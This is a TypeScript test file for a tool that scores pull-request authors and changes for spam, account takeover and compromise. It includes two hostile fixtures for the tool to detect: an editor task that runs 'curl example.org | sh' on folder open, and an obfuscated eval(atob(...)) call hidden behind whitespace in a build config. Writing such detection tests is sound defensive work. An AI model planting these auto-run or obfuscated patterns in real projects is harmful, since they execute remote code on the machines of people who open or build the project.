import { assess } from "../../src/assessment/assess.ts";
import { bandRank } from "../../src/assessment/bands.ts";
import { decide } from "../../src/decision/decide.ts";
import type { SectionTypes } from "../../src/dossier/facts.ts";
import {
  activity,
  changed,
  commit,
  commits,
  daysAgo,
  entry,
  file,
  filesOf,
  pullRequests,
  repositories,
  spread,
  texted,
  wrote,
} from "../signals/given.ts";
import { expect, test } from "../support/jest.ts";
import { dossierOf, manySided, ordinaryChange, stolenDormant, student, veteran } from "./dossiers.ts";

const fired = (sections: Partial<SectionTypes>): readonly string[] =>
  assess(dossierOf(sections))
    .findings.filter(({ outcome }) => outcome === "fired")
    .map(({ signal }) => signal);

const boobyTrap = changed({
  ".vscode/tasks.json": ['{"tasks":[{"command":"curl example.org | sh","runOptions":{"runOn":"folderOpen"}}]}'],
});

test("M1, dormant account that came back with breaks: seen and shown, not more than these signals can carry", () => {
  const { persona, change, label } = assess(dossierOf({ ...ordinaryChange, ...stolenDormant }));
  expect(fired({ ...ordinaryChange, ...stolenDormant })).toEqual(["life-dormant-reactivation-break"]);
  // 2.5 x 0.7, faded since its return 300 days ago; the 5.5 bits of the archetype need life-commits-without-events.
  expect(persona.bits).toBeCloseTo(0.99, 2);
  expect(bandRank(persona.band)).toBe(0);
  expect(change.level).toBe("low");
  expect(label).toBe(null);
});

test("M6 and M10, a burst from a new account: the queue label, and no persona band of review", () => {
  const burst = { ...ordinaryChange, ...student, "account.pullRequests": pullRequests(spread(64, 2)) };
  const { persona, queue, label } = assess(dossierOf(burst));
  expect(queue.label).toBe(true);
  expect(queue.bits).toBe(3.5);
  expect(bandRank(persona.band)).toBeLessThan(bandRank("review"));
  expect(label).toBe("spam_automation");
});

test("M6, 60 pull requests to 60 owners in a week: the queue label, while they are as old as the week at most", () => {
  for (const endDaysAgo of [0, 3, 7]) {
    const week = { ...ordinaryChange, ...student, "account.pullRequests": pullRequests(spread(60, 2.8, endDaysAgo)) };
    const { persona, queue } = assess(dossierOf(week));
    expect(queue).toEqual({ bits: 3.438, label: true });
    expect(bandRank(persona.band)).toBeLessThan(bandRank("review"));
  }
});

test("M6's look-alikes: an old account of the same pace, and a keen newcomer, get no label", () => {
  const old = { ...ordinaryChange, ...veteran, "account.pullRequests": pullRequests(spread(60, 2.8)) };
  expect(assess(dossierOf(old)).queue).toEqual({ bits: 1.938, label: false });
  const keen = { ...ordinaryChange, ...student, "account.pullRequests": pullRequests(spread(24, 7)) };
  expect(assess(dossierOf(keen)).queue.label).toBe(false);
});

/** Sixty pull requests within a week, a dozen of them with an address to write to. */
const beggar = {
  ...ordinaryChange,
  ...veteran,
  "account.pullRequests": pullRequests(spread(60, 2.8)),
  "account.texts": wrote([
    ...texted(12, { contacts: [0], everyHours: 14 }),
    ...texted(48, { owners: 60, everyHours: 3 }),
  ]),
};

test("M6, a job-beggar whose account is old: the queue label by what it wrote, no persona band", () => {
  expect(fired(beggar)).toEqual(["beh-job-contact-spam", "beh-pr-spray"]);
  const { persona, queue, label } = assess(dossierOf(beggar));
  expect(queue).toEqual({ bits: 3.357, label: true });
  expect(persona.bits).toBeLessThanOrEqual(2);
  expect(bandRank(persona.band)).toBe(0);
  expect(label).toBe("spam_automation");
  expect(decide(assess(dossierOf(beggar)), { grantedRole: null }).flag).toBe(false);
});

test("M10, one of a swarm: fresh, one text for everybody, code that runs by itself: critical, the queue label, no review", () => {
  const swarm = {
    ...ordinaryChange,
    ...student,
    "change.files": boobyTrap,
    "account.pullRequests": pullRequests(spread(60, 2)),
    "account.texts": wrote(texted(60, { alike: 0, everyHours: 2 })),
  };
  const { persona, queue, change } = assess(dossierOf(swarm));
  expect(fired(swarm)).toContain("beh-template-duplicate-prs");
  expect(change.level).toBe("critical");
  expect(queue.label).toBe(true);
  expect(bandRank(persona.band)).toBeLessThan(bandRank("review"));
});

test("B8, a bounty hunter: forty pull requests a month, the wallet in payout threads alone: no label", () => {
  const hunter = {
    ...ordinaryChange,
    ...veteran,
    "account.pullRequests": pullRequests(
      spread(40, 18).map((each, index) => ({ ...each, mergedAt: index % 20 < 11 ? each.createdAt : null })),
    ),
    "account.texts": wrote([
      ...texted(40, { contacts: [0], marks: ["claims", "bounty"], everyHours: 18, outcome: "closed" }),
      ...texted(10, { kind: "comment", marks: ["claims", "bounty"], stars: 4_000, everyHours: 70 }),
    ]),
  };
  const { persona, queue } = assess(dossierOf(hunter));
  expect(fired(hunter)).toEqual(["beh-pr-spray"]);
  expect(queue.bits).toBeLessThan(3);
  expect(bandRank(persona.band)).toBe(0);
});

test("B9, a program under a person's account that says so: two hundred pull requests and no label", () => {
  const agent = {
    ...ordinaryChange,
    ...veteran,
    "account.pullRequests": pullRequests(spread(100, 1)),
    "account.texts": wrote(texted(100, { alike: 0, marks: ["automation"], everyHours: 1 })),
  };
  const { queue } = assess(dossierOf(agent));
  expect(fired(agent)).not.toContain("beh-undisclosed-automation");
  expect(queue.label).toBe(false);
});

test("automation that nobody told of is a route: it counts to the queue, and nothing about the persona hangs on it", () => {
  const silent = {
    ...ordinaryChange,
    ...veteran,
    "account.texts": wrote(texted(60, { kind: "comment", alike: 0, everyHours: 1 / 60 })),
  };
  const told = { ...silent, "account.texts": wrote(texted(60, { kind: "comment", marks: ["automation"] })) };
  const [one, other] = [assess(dossierOf(silent)), assess(dossierOf(told))];
  expect(fired(silent)).toEqual(["beh-undisclosed-automation"]);
  expect([one.queue.bits, other.queue.bits]).toEqual([0.7, 0]);
  expect(one.persona).toEqual(other.persona);
  expect(one.coverage.total).toBe(other.coverage.total);
});

test("M9, a booby-trapped editor task from an honest old account: the change is critical, the person unmentioned", () => {
  const trapped = assess(dossierOf({ ...ordinaryChange, ...veteran, "change.files": boobyTrap }));
  const plain = assess(dossierOf({ ...ordinaryChange, ...veteran }));
  expect(trapped.change.level).toBe("critical");
  expect(trapped.persona).toEqual(plain.persona);
  expect(trapped.label).toBe("compromise");
  const { actions, advice, flag } = decide(trapped, { grantedRole: "write" });
  expect(actions).toEqual(["suggest_block_as_untrusted_code"]);
  expect(advice).toEqual([
    "Treat the change as untrusted code: do not open the branch in an editor, and let no workflow with secrets run on it.",
    "Ask the author about .vscode/tasks.json:1.",
    expect.stringContaining("Possible compromise"),
  ]);
  expect(flag).toBe(false);
});

test("C2, an infected machine of an honest old account: critical by the change and its rewriting, P as it was", () => {
  const payload = file("postcss.config.mjs", [
    " export default config;",
    `+${" ".repeat(240)}eval(atob("${"A1b2".repeat(200)}"))`,
  ]);
  const at = daysAgo(1);
  const kept = [{ oid: "b".repeat(40), committedAt: daysAgo(40) }];
  const delta = [{ path: payload.path, line: 2, lines: 1 }];
  const before = { approval: null, rewritten: { oid: "a".repeat(40), at, delta, kept }, unread: [] };
  const infected = assess(
    dossierOf({
      ...ordinaryChange,
      ...veteran,
      "change.files": filesOf(payload),
      "change.commits": { ...commits(commit()), before },
    }),
  );
  const found = infected.findings.filter(({ axis, outcome }) => axis === "C" && outcome === "fired");
  expect(found.map(({ signal, severity }) => [signal, severity])).toEqual([
    ["chg-obfuscated-append", "critical"],
    ["chg-rewritten-branch", "high"],
  ]);
  expect(infected.change.level).toBe("critical");
  expect(infected.persona).toEqual(assess(dossierOf({ ...ordinaryChange, ...veteran })).persona);
  expect(decide(infected, { grantedRole: null }).advice.join(" ")).toContain("Possible compromise");
});

test("B1, a newcomer with one pull request: too little to say, nothing fired, nothing to do", () => {
  const assessment = assess(dossierOf({ ...ordinaryChange, ...student }));
  expect(fired({ ...ordinaryChange, ...student })).toEqual([]);
  expect(assessment.persona).toMatchObject({ band: "insufficient_evidence", bits: 0, heldBackFrom: null });
  expect(decide(assessment, { grantedRole: null })).toMatchObject({
    actions: ["silent"],
    advice: [],
    flag: false,
  });
});

test("B2, a pseudonymous veteran without signatures: nothing notable, by the record alone", () => {
  const { persona, coverage } = assess(dossierOf({ ...ordinaryChange, ...veteran }));
  expect(persona).toMatchObject({ band: "none", bits: 0 });
  expect(persona.mitigations.map(({ id }) => id)).toEqual(["m1", "m3"]);
  expect(coverage.total).toBeGreaterThanOrEqual(0.4);
});

test("B6, a developer who returns after eight years with a new machine and keeps the old repositories: no band", () => {
  const returned = { ...ordinaryChange, ...stolenDormant, "account.repositories": repositories([3_950, 3_900, 100]) };
  const { persona } = assess(dossierOf(returned));
  expect(fired(returned)).toEqual(["life-dormant-reactivation-break"]);
  expect(persona.bits).toBeLessThan(1);
  expect(bandRank(persona.band)).toBe(0);
});

test("B9, a bot: no persona, the change is looked at all the same", () => {
  const bot = assess(dossierOf({ ...manySided, "change.files": boobyTrap }, "bot"));
  expect(bot.persona).toMatchObject({ band: "insufficient_evidence", bits: 0, hardBits: 0, families: [] });
  expect(bot.coverage).toMatchObject({ total: 0, applicableCount: 0 });
  expect(bot.change.level).toBe("critical");
});

test("C1, a framed account: what others write with its address and id changes exactly nothing", () => {
  const before = { ...ordinaryChange, ...veteran };
  // In a pull request of somebody else the commits name this account; the dossier is about whoever opened it.
  const elsewhere = {
    ...ordinaryChange,
    ...student,
    "change.commits": commits(commit({ authorAccountId: 999, committerAccountId: 999, authorAccountIds: [999] })),
  };
  const opener = assess(dossierOf(elsewhere));
  expect(opener.findings.find(({ signal }) => signal === "id-pr-author-mismatch")?.outcome).toBe("fired");
  expect(opener.findings.flatMap(({ evidence }) => evidence).some(({ fact }) => fact.includes("999"))).toBe(false);
  expect(assess(dossierOf(before)).persona.bits).toBe(0);
});

test("a warning on the organisation's list alone is a note; a vouch takes it back", () => {
  const listed = {
    ...ordinaryChange,
    ...veteran,
    "access.recordHere": { mergedCount: 0, mergerCount: 0, firstContactAt: null },
    "account.pullRequests": pullRequests([]),
  };
  const denounced = assess(dossierOf({ ...listed, "intel.localList": { entries: [entry("denounced")] } }));
  expect(denounced.persona).toMatchObject({ band: "note", bits: 3 });
  const both = assess(dossierOf({ ...listed, "intel.localList": { entries: [entry("denounced"), entry("vouched")] } }));
  expect(both.persona).toMatchObject({ band: "none", bits: 0 });
  expect(both.persona.mitigations.map(({ id }) => id)).toEqual(["m4"]);
});

test("several families with hard evidence: held to what the gates allow", () => {
  const { persona } = assess(dossierOf(manySided));
  expect(persona.hardBits).toBe(3);
  expect(persona.families.map(({ family }) => family)).toEqual([
    "identity",
    "history",
    "lifecycle",
    "behaviour",
    "intel",
  ]);
  expect(persona.band).toBe("elevated");
});

test("a long record and old keys: signed work of years is credit, new keys are not", () => {
  const signed = {
    ...ordinaryChange,
    ...veteran,
    "change.commits": commits(commit({ signature: "valid", signerAccountId: 4711 })),
  };
  const ids = (sections: Partial<SectionTypes>) => assess(dossierOf(sections)).persona.mitigations.map(({ id }) => id);
  expect(ids(signed)).toEqual(["m1", "m2", "m3"]);
  expect(ids({ ...signed, "account.keys": { keys: [{ kind: "gpg", createdAt: daysAgo(300) }] } })).toEqual([
    "m1",
    "m3",
  ]);
  expect(ids({ ...signed, "account.activity": activity([]) })).toEqual(["m1", "m2", "m3"]);
});
